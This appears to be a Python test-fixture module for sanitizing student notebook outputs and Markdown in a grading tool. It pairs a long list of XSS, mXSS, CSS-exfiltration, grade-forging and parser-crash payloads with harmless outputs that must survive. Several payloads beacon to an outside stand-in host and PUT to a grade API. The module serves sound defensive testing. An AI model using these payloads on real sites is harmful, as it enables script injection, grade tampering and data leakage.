"""What students could put into outputs and Markdown to act in somebody's browser, and what honest ones put there.

`ACT` is what each script tries: to leave a sign on the page, to tell somebody that it was opened, and to give points.
"""

import base64
from html import escape

AWAY = "http://198.51.100.7"
ACT = f"window.ran=1;document.title='run';new Image().src='{AWAY}/seen';fetch('/formgrader/api/grade/1',{{method:'PUT'}})"
IN = escape(ACT)                                   # in an attribute
CODED = "data:text/html;base64," + base64.b64encode(f"<script>{ACT}</script>".encode()).decode()
LETTERS = "".join(f"&#{ord(sign)};" for sign in f"javascript:{ACT}")

HTML = [
    f"<script>{ACT}</script>", f"<SCRIPT SRC={AWAY}/x.js></SCRIPT>", f"<scr<script>ipt>{ACT}</script>", f"<script/x>{ACT}</script\t\n>", f"<script type=module>{ACT}</script>",
    f'<img src=x onerror="{IN}">', f'<img/src="x"/onerror="{IN}">', f"<img src=x onerror='{IN}' ", f'<img src="x` `<script>{ACT}</script>"` `>', f'<img """><script>{ACT}</script>">',
    f'<svg onload="{IN}">', f'<svg><script>{ACT}</script></svg>', f'<svg><a xlink:href="javascript:{IN}"><text y=20>click</text></a></svg>',
    f'<svg><animate onbegin="{IN}" attributeName=x dur=1s>', f'<svg><set attributeName=href to="javascript:{IN}"/></svg>', f'<svg><foreignObject><img src=x onerror="{IN}"></foreignObject></svg>',
    f'<svg><use href="data:image/svg+xml,<svg id=x onload={IN}>#x"/></svg>', f'<svg><image href="{AWAY}/seen.png"/></svg>', f"<svg><style>@import '{AWAY}/x.css'</style></svg>",
    f'<a href="javascript:{IN}">a</a>', f'<a href="JaVaScRiPt:{IN}">a</a>', f'<a href=" &#14; javascript:{IN}">a</a>', f'<a href="java\tscript:{IN}">a</a>', f'<a href="{LETTERS}">a</a>',
    f'<a href="vbscript:x">a</a>', f'<a href="{CODED}">a</a>', '<a href="evil.html">beside the notebook</a>', '<a href="/logout">out</a>', '<a href="//198.51.100.7/x">a</a>', '<a href="\\\\198.51.100.7/x">a</a>',
    f'<iframe src="{CODED}"></iframe>', f'<iframe srcdoc="&lt;script&gt;parent.{IN}&lt;/script&gt;"></iframe>', f'<iframe src="javascript:{IN}"></iframe>', f'<object data="{CODED}"></object>',
    f'<embed src="{CODED}">', f'<frameset onload="{IN}"></frameset>', f'<applet code="{AWAY}"></applet>', f'<base href="{AWAY}/">', f'<meta http-equiv="refresh" content="0;url={AWAY}/">',
    f'<meta http-equiv="refresh" content="0;url=javascript:{IN}">', f'<link rel=stylesheet href="{AWAY}/x.css">', f"<style>@import '{AWAY}/x.css'; .score {{ display: none }}</style>",
    f'<div style="background:url({AWAY}/seen)">x</div>', f'<div style="background:u\\72l({AWAY}/seen)">x</div>', '<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:white">100 / 100</div>',
    '<div style="pos&#105;tion:absolute;z-index:9">100</div>', '<div style="margin-top:-900px">100 / 100</div>', '<p style="transform:translate(0,-90px)">100</p>', f'<p style="width:expression({ACT})">x</p>',
    f"<p style=\"behavior:url({AWAY}/x.htc);-moz-binding:url({AWAY}/x)\">x</p>", '<p style="font-size:9999px">x</p>', f'<form action="/formgrader/api/grade/1" method=post><input name=manual_score value=100><button>Show</button></form>',
    f'<button formaction="javascript:{IN}">x</button>', f'<input autofocus onfocus="{IN}">', f'<textarea autofocus onfocus="{IN}"></textarea>', f'<select autofocus onfocus="{IN}"></select>', f'<body onload="{IN}">',
    f'<details open ontoggle="{IN}"><summary>x</summary></details>', f'<video><source onerror="{IN}"></video>', f'<audio src=x onerror="{IN}"></audio>', f'<video poster="{AWAY}/seen.png"></video>', f'<marquee onstart="{IN}">x</marquee>',
    f'<img src="{AWAY}/seen.png">', f'<img srcset="{AWAY}/seen.png 1x">', '<img src="/formgrader/submissions/1/next">', f'<img src="{CODED}">', f'<table background="{AWAY}/seen.png"><tr><td>x</table>',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={IN}&gt;">', f'<math href="javascript:{IN}"><mi>x</mi></math>', f'<math><annotation-xml encoding="text/html"><img src=x onerror="{IN}"></annotation-xml></math>',
    f'<form><math><mtext></form><form><mglyph><style></math><img src onerror="{IN}">', f'<svg></p><style><a id="</style><img src=1 onerror={IN}>">', f'<noscript><p title="</noscript><img src=x onerror={IN}>"></noscript>',
    f'<template><img src=x onerror="{IN}"></template>', f'<xmp><p title="</xmp><img src=x onerror={IN}>"></xmp>', f'<!--><img src=x onerror="{IN}">-->', f'<!--[if gte IE 4]><script>{ACT}</script><![endif]-->', f'<![CDATA[<img src=x onerror="{IN}">]]>',
    f'<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">{ACT}</script>', '</div></div></body></html><h1>Score: 100 / 100</h1>', '<p id="explain_e1" class="score nbgrader_cell">100</p>',
    '<span class="full-credit">Read more</span>', '<a data-toggle="tooltip" data-html="true" title="&lt;img src=x onerror=go()&gt;">x</a>', '<a name="explain_e1" ping="http://198.51.100.7/seen" href="#">x</a>',
    f'<p contenteditable onfocus="{IN}" tabindex=1 autofocus>x</p>', f'<isindex action="javascript:{IN}" type=image>', f'<keygen autofocus onfocus="{IN}">', f'<plaintext onclick="{IN}">', f"<title onclick={IN}>run</title>", "<b><i><u>" * 400,
]

MARKDOWN = [
    *HTML[:60], f"[a](javascript:{ACT})", f"[a](<javascript:{ACT}>)", f"[a]: javascript:{ACT}\n\n[a]", f"<javascript:{ACT}>", "[my work](evil.html)", "[out](/logout)", f"![a]({AWAY}/seen.png)",
    f"![a]({CODED})", f"![a](x\"onerror=\"{IN})", f"[a](http://x\"onmouseover=\"{IN})", "# explain_e1\n\ntext", "explain_e1\n==========", "# <b id='explain_e1'>x</b>", f"```mermaid\n<img src=x onerror=\"{IN}\">\n```",
    f"``` \"><script>{ACT}</script>\nx\n```", f"$$\\text{{<img\nsrc=x\nonerror={ACT}>}}$$", f"$\\href{{javascript:{ACT}}}{{x}}$", f"$\\text{{<script>}}{ACT}\\text{{</script>}}$", "![gone](attachment:gone.png)",
    f"![x](attachment:x.png \"' onerror='{IN}\")", f"| a | b |\n|---|---|\n| <script>{ACT}</script> | x |", f"- a\n\n      <img src=x onerror=\"{IN}\">\n- <img src=x onerror=\"{IN}\">", f"<div>\n\n<script>\n\n{ACT}\n\n</script>", "\\\\[" * 3000, "[" * 60_000,
    f"<details>\n<summary>x</summary>\n\n<img src=x onerror=\"{IN}\">\n\n</details>", f"&lt;script&gt; <svg/onload=\"{IN}\">", "\\begin{a}" * 2000,
]

PNG = "iVBORw0KGgoAAAANSUhEUgAAAAoAAAAKCAIAAAACUFjqAAAAEklEQVR4nGNgUPAjhkZCkAICAPFTKYHqzuJ4AAAAAElFTkSuQmCC"
HONEST = {                                         # each with what must still be in it
    "a table of pandas": ('<div>\n<style scoped>\n .dataframe tbody tr th { vertical-align: top; }\n</style>\n<table border="1" class="dataframe">\n<thead>\n<tr style="text-align: right;">\n<th></th>\n<th>&lt;loss&gt;</th>\n</tr></thead>'
                          "<tbody><tr><th>0</th><td>0.5</td></tr></tbody></table></div>", ['class="dataframe"', "&lt;loss&gt;", "<td>0.5</td>", 'style="text-align: right;"']),
    "a picture": (f'<img style="max-width:100%" alt="the loss" src="data:image/png;base64,{PNG}">', [PNG, 'alt="the loss"']),
    "a drawing": ('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><title>A dot</title><linearGradient id="g"/><circle cx="4" cy="4" r="3" fill="url(#g)"/></svg>', ['<img alt="A dot"', "data:image/svg+xml;base64,"]),
    "colours": ('<p style="color:#c00; background:rgb(1, 2, 3); padding:.3em">red</p>', ["color:#c00", "rgb(1, 2, 3)", "padding:.3em"]),
    "a fold": ("<details open><summary>more</summary><p>here</p></details>", ["<details open>", "<summary>"]),
    "a link": ('<a href="https://example.org/paper?a=1&amp;b=2">paper</a>', ['href="https://example.org/paper?a=1&amp;b=2"']),
    "code": ('<div class="highlight"><pre><span class="k">def</span></pre></div>', ['<span class="k">', "highlight"]),
    "words": ("5 &lt; 6 &amp;&amp; é ∂ℓ/∂h &amp;lt;", ["5 &lt; 6 &amp;&amp; é ∂ℓ/∂h &amp;lt;"]),
}
PLAIN_MARKDOWN = ["# A heading\n\n*why* **not** `x < 3`\n\n1. one\n2. two", "| a | b |\n|:-:|--:|\n| 1 | 2 |", "```python\nif a < b:\n    print('<b>')\n```", "the gradient $\\frac{\\partial \\ell}{\\partial w}$ and $$x < y$$",
                  "see [the paper](https://example.org/a_(b)?c=1&d=2)", "![plot](plot.png)", f"![inside](data:image/png;base64,{PNG})", "a<br>b and H<sub>2</sub>O", "> said\n\n---\n\n~~no~~ - [x] done", "a < b > c & d; AT&T"]
